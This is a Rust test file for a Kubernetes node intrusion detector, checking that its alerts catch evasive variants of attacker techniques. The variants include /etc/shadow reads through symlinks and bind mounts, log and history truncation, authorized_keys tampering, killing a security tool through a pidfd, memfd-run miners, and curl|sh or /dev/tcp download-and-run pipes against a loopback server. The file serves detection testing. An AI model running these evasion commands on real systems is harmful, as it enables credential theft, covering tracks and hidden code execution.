//! The node alerts through `palisade run` when the act is done another way than the textbook one (issue 15):
//! static musl tools as in Alpine images (open(2), not openat), other spellings of a watched path (relative,
//! symlinked, the host's root mounted elsewhere as a hostPath `/` volume), the descriptor forms of truncation
//! and chmod, and a signal sent through a pidfd. Each variant must raise the alert its textbook form raises, from
//! the process that did it; a look-alike set of the same syscalls on unwatched files raises nothing.

mod common;

use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use common::{Sandbox, alerts, sh, start_node_run};

/// `ingest/collect/tests/tools/syscalls.c` built static with musl: one direct syscall per run.
fn musl_syscalls_tool(dir: &Path) -> String {
    let source = concat!(env!("CARGO_MANIFEST_DIR"), "/ingest/collect/tests/tools/syscalls.c");
    // Named as the Alpine tool it stands for: a static `cat` that opens with open(2).
    let binary = dir.join("bin/cat").display().to_string();
    let output = Command::new("musl-gcc").args(["-static", "-O2", "-o", &binary, source]).output();
    let output = output.expect("musl-gcc runs (Debian's musl-tools; the testbed installs it)");
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    binary
}

/// Waits for an alert of `alert_type` raised by a process whose command line contains `marker`.
fn wait_for_alert_from(path: &Path, alert_type: &str, marker: &str) -> Option<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        let found = alerts(path).into_iter().find(|alert| {
            alert["alert_type"] == alert_type
                && alert["process"]["args"]
                    .as_array()
                    .is_some_and(|args| args.iter().any(|a| a.as_str().is_some_and(|a| a.contains(marker))))
        });
        if found.is_some() {
            return found;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    None
}

#[test]
fn node_alerts_fire_on_other_syscalls_spellings_and_tools_and_not_on_look_alikes() {
    // Set up before the collector starts: writing these files is not what is tested.
    let sandbox = Sandbox::new();
    let d = sandbox.dir.display().to_string();
    let tool = musl_syscalls_tool(&sandbox.dir);
    let falco = sandbox.stand_in("falco", "/bin/sleep");
    std::fs::create_dir_all(format!("{d}/host")).unwrap();
    std::fs::create_dir_all("/opt/palisade-evasion").unwrap();
    std::fs::write("/opt/palisade-evasion/plain", "x").unwrap();
    std::fs::write(format!("{d}/home/.bash_history"), "ls\n").unwrap();
    std::fs::write(format!("{d}/home/.ssh/authorized_keys"), "").unwrap();
    let work = tempfile::tempdir().unwrap();
    let alerts_path = work.path().join("alerts.jsonl");
    let run = start_node_run(&alerts_path, &work.path().join("detect-state.json"));

    // ---- look-alikes first: the same syscalls by the same tool on files nobody watches, and a signal to an
    // ordinary process through a pidfd.
    let look_alikes = [
        format!("{tool} open /opt/palisade-evasion/plain"),
        format!("{tool} cat /opt/palisade-evasion/plain"),
        "cd /opt/palisade-evasion && ".to_owned() + &tool + " open plain",
        format!("{tool} descriptors /opt/palisade-evasion/plain"),
        format!("{tool} chmod /opt/palisade-evasion/plain"),
        format!("{tool} creat /opt/palisade-evasion/created"),
        format!("sleep 30 & {tool} pidfd-kill $!"),
    ];
    for script in &look_alikes {
        sh(script);
    }
    // The marker's alert says the pipeline has seen everything before it (one collector, one partition).
    sh(&format!("{tool} cat /etc/shadow"));
    assert!(wait_for_alert_from(&alerts_path, "K8S.NODE_SuspectPasswordFileAccess", "cat").is_some());
    let quiet: Vec<serde_json::Value> =
        alerts(&alerts_path).into_iter().filter(|a| a["alert_type"] != "K8S.NODE_SuspectPasswordFileAccess").collect();
    assert!(quiet.is_empty(), "look-alikes raised: {quiet:#?}");

    // ---- the variants: (label, script, alert type, a word of the acting process's command line).
    let mut variants: Vec<(&str, String, &str, String)> = vec![
        (
            "musl open(2) of /etc/shadow",
            format!("{tool} open /etc/shadow"),
            "K8S.NODE_SuspectPasswordFileAccess",
            "open".into(),
        ),
        (
            "relative path from /etc",
            format!("cd /etc && {tool} openat2 gshadow"),
            "K8S.NODE_SuspectPasswordFileAccess",
            "gshadow".into(),
        ),
        (
            "symlink to /etc/shadow",
            format!("ln -sf /etc/shadow {d}/s && {tool} cat {d}/s"),
            "K8S.NODE_SuspectPasswordFileAccess",
            format!("{d}/s"),
        ),
        (
            "host root bind-mounted (hostPath /)",
            format!("unshare -m sh -c 'mount --bind / {d}/host && cat {d}/host/etc/shadow'"),
            "K8S.NODE_SuspectPasswordFileAccess",
            format!("{d}/host/etc/shadow"),
        ),
        (
            "history emptied by open + ftruncate on a dup'd descriptor",
            format!("{tool} descriptors {d}/home/.bash_history"),
            "K8S.NODE_HistoryFileCleared",
            "descriptors".into(),
        ),
        (
            "auth log emptied by ftruncate (in a private mount namespace)",
            format!(
                "unshare -m sh -c 'mount -t tmpfs none /var/log && : > /var/log/btmp.tmp && mv /var/log/btmp.tmp /var/log/btmp && {tool} descriptors /var/log/btmp'"
            ),
            "K8S.NODE_SystemLogRemoval",
            "/var/log/btmp".into(),
        ),
        (
            "authorized_keys created by creat(2)",
            format!("{tool} creat {d}/home/.ssh/authorized_keys"),
            "K8S.NODE_SshKeyAccess",
            "creat".into(),
        ),
        (
            "authorized_keys made writable by chmod(2)",
            format!("{tool} chmod {d}/home/.ssh/authorized_keys"),
            "K8S.NODE_SshKeyAccess",
            "chmod".into(),
        ),
        (
            "security tool killed through a pidfd",
            format!("{falco} 30 & sleep 0.3; {tool} pidfd-kill $!"),
            "K8S.NODE_SuspectProcessTermination",
            "pidfd-kill".into(),
        ),
    ];
    // Debian's static busybox runs whoami, hostname and uname in the shell's process (NOFORK): no exec but sh.
    variants.push((
        "recon by busybox NOFORK applets in one sh -c",
        "busybox sh -c 'whoami; hostname; uname -a; printenv > /dev/null'".into(),
        "K8S.NODE_ReconnaissanceArtifactsBurst",
        "whoami; hostname".into(),
    ));
    // A miner run from a memfd (fexecve through /proc/self/fd/N) under an innocent argv: named by the memfd.
    variants.push((
        "miner executed from a memfd",
        "/usr/bin/python3 -c 'import os; fd = os.memfd_create(\"xmrig\", 0); os.write(fd, open(\"/bin/sleep\", \"rb\").read()); os.execv(\"/proc/self/fd/%d\" % fd, [\"kworker-evasion\", \"2\"])'".into(),
        "K8S.NODE_DigitalCurrencyMining",
        "kworker-evasion".into(),
    ));
    // 3000 bytes of padding before the pool: past the kernel's 2 KiB capture, read back from /proc while the
    // process lives.
    variants.push((
        "argv padded past the kernel capture",
        "sh -c 'sleep 3' worker \"$(printf '%3000s' '')\" -o stratum+tcp://203.0.113.77:4444".into(),
        "K8S.NODE_CryptoCoinMinerExecution",
        "stratum+tcp://203.0.113.77".into(),
    ));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let listen_port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let _ = std::io::copy(&mut stream, &mut std::io::sink());
        }
    });
    variants.push((
        "SOCKS5 greeting sent with sendmsg(2)",
        format!("{tool} sendmsg {listen_port}"),
        "K8S.NODE_SuspectConnection",
        "sendmsg".into(),
    ));
    let mut missed = Vec::new();
    for (label, script, alert_type, marker) in &variants {
        sh(script);
        if wait_for_alert_from(&alerts_path, alert_type, marker).is_none() {
            missed.push(format!("{label}: no {alert_type} from `{script}`"));
        }
    }
    assert!(missed.is_empty(), "variants not detected:\n{}", missed.join("\n"));

    // ---- a download piped into whatever runs it, where no command line shows `curl … | sh` (issue 15 item 3):
    // each from its own URL path, which the alert's download command names.
    let web = serve_scripts();
    let url = |path: &str| format!("http://127.0.0.1:{web}/{path}");
    std::fs::copy("/usr/bin/curl", format!("{d}/bin/fetch")).unwrap();
    std::fs::copy("/bin/dash", format!("{d}/bin/worker")).unwrap();
    std::fs::write(format!("{d}/install.sh"), format!("curl -s {} | sh\n", url("script-one"))).unwrap();
    // Look-alikes: a download piped into a tool that only reads data, an interpreter given its program, and a
    // command substitution; then a marker, after which none of them may have raised the alert.
    for script in [
        format!("curl -s {} | grep -c id", url("quiet-grep")),
        format!("curl -s {} | python3 -c 'import sys; sys.stdin.read()'", url("quiet-python")),
        format!("X=$(curl -s {}); echo \"$X\" | wc -l", url("quiet-substitution")),
        format!("curl -s {} | tar tzf - 2>/dev/null | wc -l", url("quiet-tar")),
    ] {
        sh(&script);
    }
    let python_fetch = format!(
        "python3 -c 'import sys, urllib.request; sys.stdout.buffer.write(urllib.request.urlopen(\"{}\").read())' | bash",
        url("script-python")
    );
    let dev_tcp = format!(
        "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{web}; printf \"GET /script-dev-tcp HTTP/1.0\\r\\n\\r\\n\" >&3; cat <&3' | sh -s -- dev-tcp-reader"
    );
    let pipes: Vec<(&str, String, &str)> = vec![
        ("curl | sh inside a script", format!("sh {d}/install.sh"), "script-one"),
        (
            "renamed curl into a renamed shell",
            format!("{d}/bin/fetch -s {} | {d}/bin/worker", url("script-renamed")),
            "script-renamed",
        ),
        ("Python's urllib into bash", python_fetch, "script-python"),
        ("curl | base64 -d | sh", format!("curl -s {} | base64 -d | sh", url("base64-script")), "base64-script"),
        ("/dev/tcp from bash into sh", dev_tcp, "dev-tcp-reader"),
    ];
    let mut missed = Vec::new();
    for (label, script, marker) in &pipes {
        sh(script);
        if wait_for_download_and_run(&alerts_path, marker).is_none() {
            missed.push(format!("{label}: no K8S.NODE_DownloadAndRunCombo from `{script}`"));
        }
    }
    assert!(missed.is_empty(), "piped downloads not detected:\n{}", missed.join("\n"));
    let loud: Vec<serde_json::Value> = alerts(&alerts_path)
        .into_iter()
        .filter(|alert| alert["alert_type"] == "K8S.NODE_DownloadAndRunCombo" && alert.to_string().contains("quiet-"))
        .collect();
    assert!(loud.is_empty(), "look-alike pipes raised: {loud:#?}");
    let _ = std::fs::remove_dir_all("/opt/palisade-evasion");
    drop(run);
}

/// A loopback HTTP/1.0 server: `/base64-script` answers a base64-wrapped script, any other path `id; uname -a`.
/// Returns its port.
fn serve_scripts() -> u16 {
    use std::io::{BufRead, BufReader, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut request = String::new();
            let mut reader = BufReader::new(&stream);
            if reader.read_line(&mut request).is_err() {
                continue;
            }
            let script = "id\nuname -a\n";
            let body = if request.contains("/base64-script") { "aWQKdW5hbWUgLWEK\n" } else { script };
            let mut stream = &stream;
            let _ = write!(stream, "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}", body.len());
        }
    });
    port
}

/// Waits for a K8S.NODE_DownloadAndRunCombo from its windowed half (the one that names the pipe) whose details
/// name `marker` (the URL path, or the reader's argument).
fn wait_for_download_and_run(path: &Path, marker: &str) -> Option<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        let found = alerts(path).into_iter().find(|alert| {
            alert["alert_type"] == "K8S.NODE_DownloadAndRunCombo"
                && alert["details"]["pipe"].is_string()
                && alert["details"].to_string().contains(marker)
        });
        if found.is_some() {
            return found;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    None
}
